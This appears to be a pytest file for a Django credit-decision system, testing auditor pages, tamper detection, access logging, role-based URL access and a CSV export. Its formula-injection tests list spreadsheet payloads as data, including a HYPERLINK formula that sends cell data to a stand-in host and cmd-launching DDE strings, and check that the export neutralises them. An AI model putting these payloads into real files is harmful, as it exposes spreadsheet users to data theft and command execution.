"""The auditor's pages, the decision export, the access log, and every URL for every role."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from accounts import roles
from audit import canonical
from audit.models import AccessEvent, DecisionRecord
from audit.services import log_access
from tests.support.audit import scored_application
from tests.support.factories import DECLINED_FORM, PASSWORD, UserFactory
from tests.support.reviews import decide_by_review

pytestmark = pytest.mark.django_db


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def trail():
    officer = UserFactory(role=roles.OFFICER)
    applications = [scored_application(officer, applicant_reference=f"P-{i}") for i in range(4)]
    target = "APPROVE" if applications[0].final_decision != "APPROVE" else "DECLINE"
    reviewer = UserFactory(role=roles.REVIEWER, username="rita-reviewer")
    decide_by_review(applications[0], target, reviewer=reviewer)
    return applications


def test_audit_page_shows_status_head_versions_mix_and_rates(trail):
    page = login(UserFactory(role=roles.AUDITOR)).get("/audit/")
    assert page.status_code == 200
    html = page.content.decode()
    head = DecisionRecord.objects.order_by("-sequence").first()
    assert "Intact." in html and head.record_hash in html
    assert trail[0].model_version in html and 'data-testid="version-row"' in html
    assert "rita-reviewer" in html and 'data-testid="reviewer-rate"' in html
    assert page.context["summary"].decisions.checked == 4
    rates = page.context["rates"]
    assert rates["per_reviewer"][0]["overrides"] == 1
    assert rates["per_version"][0] == {**rates["per_version"][0], "decisions": 4, "overridden": 1, "rate": 0.25}
    mix = page.context["mix"][0]
    assert mix["total"] == 4 and sum(n for _, n, _ in mix["decisions"]) == 4


def test_audit_page_with_replay(trail):
    page = login(UserFactory(role=roles.AUDITOR)).get("/audit/?replay=1")
    assert page.status_code == 200 and page.context["summary"].replayed == 4 and page.context["summary"].ok


def test_audit_page_reports_tampering(trail):
    from tests.support.audit import drop_triggers, raw

    drop_triggers()
    victim = DecisionRecord.objects.get(sequence=2)
    raw("UPDATE audit_decisionrecord SET decision = 'BOGUS' WHERE id = %s", (victim.pk,))
    html = login(UserFactory(role=roles.AUDITOR)).get("/audit/").content.decode()
    assert "PROBLEM FOUND" in html and f"id={victim.pk}" in html


def test_decision_export_has_every_audit_field_and_is_logged(trail):
    auditor = UserFactory(role=roles.AUDITOR)
    response = login(auditor).get("/audit/decisions.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, as every CSV the product writes
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 4
    records = {r.pk: r for r in DecisionRecord.objects.all()}
    for row in rows:
        record = records[int(row["record_id"])]
        assert float.fromhex(row["probability_of_default_hex"]) == record.probability_of_default
        assert float(row["probability_of_default"]) == record.probability_of_default
        assert row["record_hash"] == record.record_hash and row["payload"] == record.payload
        assert base64.b64decode(row["payload_base64"]).decode("ascii") == record.payload
        assert json.loads(row["features_json"]) == json.loads(record.payload)["features"]
        assert row["model_sha256"] == record.model_sha256 and row["officer"] == record.officer.username
    assert AccessEvent.objects.filter(user=auditor, action="export", target="audit:decisions.csv").exists()


@pytest.mark.parametrize(
    "reference",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"],
)
def test_decision_export_neutralises_formulas_in_references(reference):
    officer = UserFactory(role=roles.OFFICER)
    scored_application(officer, applicant_reference=reference)
    response = login(UserFactory(role=roles.AUDITOR)).get("/audit/decisions.csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["applicant_reference"] == "'" + reference
    # The payload (which contains the reference inside JSON) starts with "{", never a formula.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_decision_export_quotes_text_so_a_semicolon_locale_sees_no_formula():
    scored_application(UserFactory(role=roles.OFFICER), applicant_reference="x;=cmd|' /C calc'!A0;")
    response = login(UserFactory(role=roles.AUDITOR)).get("/audit/decisions.csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    data_line = body.splitlines()[1]
    assert "\"x;'=cmd|' /C calc'!A0;\"" in data_line
    cells = next(csv.reader(io.StringIO(data_line), delimiter=";"))
    assert not any(cell.startswith("=") for cell in cells)
    # The payload column is neutralised like every text cell; its exact bytes (for the hash) are in base64.
    row = next(csv.DictReader(io.StringIO(body)))
    record = DecisionRecord.objects.get(pk=row["record_id"])
    assert base64.b64decode(row["payload_base64"]).decode("ascii") == record.payload
    assert canonical.record_hash(base64.b64decode(row["payload_base64"]).decode("ascii")) == row["record_hash"]


def test_access_log_records_logins_failures_views_exports_and_denials(trail):
    officer = trail[0].officer
    client = Client()
    assert client.post("/accounts/login/", {"username": officer.username, "password": "wrong"}).status_code == 200
    assert client.post("/accounts/login/", {"username": officer.username, "password": PASSWORD}).status_code == 302
    assert client.get(f"/applications/{trail[0].pk}/").status_code == 200
    assert client.get("/applications/export.csv").status_code == 200
    assert client.get("/audit/").status_code == 403  # an officer is not an auditor
    actions = list(AccessEvent.objects.order_by("id").values_list("action", "username", "target"))
    assert ("login_failed", officer.username, officer.username) in actions
    assert ("login", officer.username, "") in actions
    assert ("view_application", officer.username, f"application:{trail[0].pk}") in actions
    assert any(a == "export_applications" or a == "export" for a, _, _ in actions)
    denials = [row for row in actions if row[0] == "permission_denied"]
    assert denials == [("permission_denied", officer.username, "audit:home")]  # logged once, not twice
    event = AccessEvent.objects.filter(action="login").latest("id")
    assert event.ip == "127.0.0.1" and event.path == "/accounts/login/" and event.method == "POST"


def test_denials_outside_the_views_are_logged_by_the_middleware(trail):
    client = login(UserFactory(role=roles.OFFICER))
    assert client.get("/admin/").status_code in (302, 403)
    client = Client(enforce_csrf_checks=True)
    client.force_login(UserFactory(role=roles.OFFICER))
    assert client.post("/applications/new/", {}).status_code == 403
    assert AccessEvent.objects.filter(action="permission_denied", path="/applications/new/").count() == 1


def test_access_log_page_for_auditors(trail):
    auditor = UserFactory(role=roles.AUDITOR)
    log_access(user=auditor, action="export", target="something")
    page = login(auditor).get("/audit/access/?action=export")
    assert page.status_code == 200 and b"something" in page.content
    assert all(e.action == "export" for e in page.context["page"].object_list)


def test_log_access_never_breaks_the_page_and_strips_nul():
    event = log_access(user=None, action="login_failed", target="bad\x00name" + "x" * 400, username="bad\x00")
    assert event is not None and "\x00" not in event.target and len(event.target) == 255


def test_auditor_changes_nothing(trail):
    """Every write an auditor could attempt is refused and nothing changes."""
    auditor = UserFactory(role=roles.AUDITOR)
    client = login(auditor)
    application = trail[1]
    before = (DecisionRecord.objects.count(), application.final_decision)
    assert (
        client.post(
            f"/reviews/{application.pk}/",
            {
                "decision": "DECLINE",
                "reason_code": "DEC-AFFORD",
                "explanation": "x" * 30,
                "version": 0,
                "confirmed": "yes",
            },
        ).status_code
        == 403
    )
    assert client.get("/applications/new/").status_code == 403
    from tests.support.factories import application_form_data

    assert client.post("/applications/new/", application_form_data()).status_code == 403
    application.refresh_from_db()
    assert (DecisionRecord.objects.count(), application.final_decision) == before


# --- Every URL, every role ------------------------------------------------------

ROLES = ("anonymous", "nobody", roles.OFFICER, "other_officer", roles.REVIEWER, roles.AUDITOR, roles.ADMIN)
A, D, L = "allow", "deny", "login"  # 2xx/3xx within the site, 403, redirect to login
H = "hidden"  # 404, as for a missing id: the user may not learn that the application exists
EXPECTED: dict[str, dict[str, str]] = {
    # route name: role -> expected
    "home": {
        "anonymous": L,
        "nobody": A,
        roles.OFFICER: A,
        "other_officer": A,
        roles.REVIEWER: A,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "applications:list": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: A,
        "other_officer": A,
        roles.REVIEWER: A,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "applications:new": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: A,
        "other_officer": A,
        roles.REVIEWER: A,
        roles.AUDITOR: D,
        roles.ADMIN: A,
    },
    "applications:export": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: A,
        "other_officer": A,
        roles.REVIEWER: A,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "applications:detail": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: A,
        "other_officer": H,
        roles.REVIEWER: A,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    # The old override address: a redirect to the case page, which decides who may see it.
    "applications:override": {
        "anonymous": L,
        "nobody": A,
        roles.OFFICER: A,
        "other_officer": A,
        roles.REVIEWER: A,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "reviews:queue": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: D,
        "other_officer": D,
        roles.REVIEWER: A,
        roles.AUDITOR: D,
        roles.ADMIN: A,
    },
    "reviews:case": {
        "anonymous": L,
        "nobody": H,
        roles.OFFICER: D,
        "other_officer": H,
        roles.REVIEWER: A,
        roles.AUDITOR: D,
        roles.ADMIN: A,
    },
    "audit:home": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: D,
        "other_officer": D,
        roles.REVIEWER: D,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "audit:decisions_csv": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: D,
        "other_officer": D,
        roles.REVIEWER: D,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "audit:access_log": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: D,
        "other_officer": D,
        roles.REVIEWER: D,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "login": {role: A for role in ROLES},
    "batches:upload": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: A,
        "other_officer": A,
        roles.REVIEWER: A,
        roles.AUDITOR: D,
        roles.ADMIN: A,
    },
    **{
        name: {
            "anonymous": L,
            "nobody": H,
            roles.OFFICER: A,
            "other_officer": H,
            roles.REVIEWER: A,
            roles.AUDITOR: A,
            roles.ADMIN: A,
        }
        for name in ("batches:detail", "batches:progress", "batches:results")
    },
    # Monitoring (issue 18): reviewers, auditors and admins; recording outcomes: admins.
    **{
        name: {
            "anonymous": L,
            "nobody": D,
            roles.OFFICER: D,
            "other_officer": D,
            roles.REVIEWER: A,
            roles.AUDITOR: A,
            roles.ADMIN: A,
        }
        for name in (
            "monitoring:dashboard",
            "monitoring:drift",
            "monitoring:outcomes",
            "monitoring:fairness",
            "monitoring:csv",
            # Model governance (issue 18.5-6): the registry and the simulator are read by the same roles.
            "governance:registry",
            "governance:simulator",
        )
    },
    # Champion and challenger (issue 18.7): admins and auditors, who may open the swap sets' applications.
    "challenger_comparison": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: D,
        "other_officer": D,
        roles.REVIEWER: D,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    },
    "monitoring:outcomes_import": {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: D,
        "other_officer": D,
        roles.REVIEWER: D,
        roles.AUDITOR: D,
        roles.ADMIN: A,
    },
}
# Routes with no page of their own to walk (logout, claim, release, a batch's cancel and the governance
# actions are POST-only by design; who may use the governance actions: tests/governance; admin has its own tests).
# The API answers tokens, not sessions: tests/api walks every endpoint of its schema for every case
# (tests/api/test_schema.py, test_api.py).
NOT_WALKED = {
    "logout",
    "reviews:claim",
    "reviews:release",
    "governance:propose_activation",
    "governance:approve",
    "governance:reject",
    "governance:withdraw",
    "governance:propose_challenger",
    "governance:propose_challenger_removal",
    "batches:cancel",
    "api:application-list",
    "api:application-detail",
    "api:case-claim",
    "api:case-release",
    "api:case-decide",
    "api:case-second-approval",
    "api:batch-list",
    "api:batch-detail",
    "api:batch-cancel",
    "api:batch-results",
    "api:schema",
    "api:docs",
}
# The walk's application is declined, so it has a notice (#15).
for _notice_route in ("applications:notice", "applications:notice_pdf"):
    EXPECTED[_notice_route] = {
        "anonymous": L,
        "nobody": D,
        roles.OFFICER: A,
        "other_officer": H,
        roles.REVIEWER: A,
        roles.AUDITOR: A,
        roles.ADMIN: A,
    }
# The what-if and the counter-offer are POST-only too; tests/applications covers their roles.
NOT_WALKED |= {"applications:what_if", "applications:counter_offer"}
ROUTES_WITH_AN_APPLICATION = (
    "applications:detail",
    "applications:override",
    "applications:notice",
    "applications:notice_pdf",
    "reviews:case",
)


def _named_routes(patterns, prefix: str = "") -> set[str]:
    names = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            if pattern.app_name == "admin":
                continue
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            names |= _named_routes(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            names.add(prefix + pattern.name)
    return names


def _batch_job(owner):
    """A batch file of ``owner``'s, queued (its tasks are not run: the walk only reads it)."""
    import io

    from batches.services import create_batch_job
    from tests.support.batches import batch_csv, varied_rows

    return create_batch_job(officer=owner, file=io.BytesIO(batch_csv(varied_rows(2))), file_name="walk.csv")


def test_every_route_is_in_the_walk():
    assert _named_routes(get_resolver().url_patterns) - NOT_WALKED == set(EXPECTED)


@pytest.mark.parametrize("role", ROLES)
def test_walk_every_url_for_every_role(role):
    from django.urls import reverse

    owner = UserFactory(role=roles.OFFICER)
    application = scored_application(owner, **DECLINED_FORM)
    job = _batch_job(owner)
    users = {
        "anonymous": None,
        "nobody": UserFactory(role=None),
        roles.OFFICER: owner,
        "other_officer": UserFactory(role=roles.OFFICER),
        roles.REVIEWER: UserFactory(role=roles.REVIEWER),
        roles.AUDITOR: UserFactory(role=roles.AUDITOR),
        roles.ADMIN: UserFactory(role=roles.ADMIN),
    }
    client = Client()
    if users[role] is not None:
        client.force_login(users[role])
    failures = []
    for name, expectations in EXPECTED.items():
        args = [application.pk] if name in ROUTES_WITH_AN_APPLICATION else []
        if name == "monitoring:csv":
            args = ["daily"]
        if name.startswith("batches:") and name != "batches:upload":
            args = [job.pk]
        url = reverse(name, args=args)
        response = client.get(url)
        status = response.status_code
        if status in (200, 301, 302, 303) and not (
            status != 200 and "/accounts/login/" in response.get("Location", "")
        ):
            outcome = A
        elif status in (302,) and "/accounts/login/" in response["Location"]:
            outcome = L
        elif status == 403:
            outcome = D
        elif status == 404:
            outcome = H
        else:
            outcome = f"HTTP {status}"
        if name == "login" and role != "anonymous":
            outcome = A if status in (200, 302) else outcome
        if outcome != expectations[role]:
            failures.append(f"{role} GET {url}: expected {expectations[role]}, got {outcome} ({status})")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("role", ROLES)
def test_admin_site_for_every_role(role):
    users = {
        "anonymous": None,
        "nobody": UserFactory(role=None),
        roles.OFFICER: UserFactory(role=roles.OFFICER),
        "other_officer": UserFactory(role=roles.OFFICER),
        roles.REVIEWER: UserFactory(role=roles.REVIEWER),
        roles.AUDITOR: UserFactory(role=roles.AUDITOR),
        roles.ADMIN: UserFactory(role=roles.ADMIN),
    }
    client = Client()
    if users[role] is not None:
        client.force_login(users[role])
    response = client.get("/admin/audit/decisionrecord/")
    if role == roles.ADMIN:
        assert response.status_code == 200
        assert client.get("/admin/audit/decisionrecord/add/").status_code == 403
    else:
        assert response.status_code in (302, 403)


def test_access_log_names_actions_in_words_not_internal_codes(trail):
    """No internal names on screen (issue #13, point 11): "Viewed an application", not view_application."""
    import re

    auditor = login(UserFactory(role=roles.AUDITOR))
    auditor.get(f"/applications/{trail[0].pk}/")
    html = auditor.get("/audit/access/").content.decode()
    rows = re.findall(r'<tr data-testid="access-row">(.*?)</tr>', html, re.S)
    assert any("<td>Viewed an application</td>" in row for row in rows)
    assert "<td>view_application</td>" not in html
    # The filter keeps the stored code as its value and shows the words.
    assert '<option value="view_application">Viewed an application</option>' in html
